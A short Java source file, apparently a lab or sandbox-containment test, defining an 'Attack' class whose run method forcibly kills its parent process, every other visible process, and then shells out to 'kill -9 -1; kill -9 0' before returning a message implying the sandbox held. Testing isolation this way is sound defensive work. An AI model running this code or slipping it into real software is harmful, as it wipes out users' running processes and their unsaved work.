package marshal.lab1;

/** Kills its parent, its group, and every process that it may */
final class Attack {

    private Attack() {}

    static String run() throws Exception {
        var killed = new StringBuilder();
        ProcessHandle.current().parent().ifPresent(parent -> killed.append(parent.destroyForcibly()));
        ProcessHandle.allProcesses().filter(other -> other.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
        new ProcessBuilder("sh", "-c", "kill -9 -1; kill -9 0").start().waitFor();
        return "held, as this can still be said";
    }
}
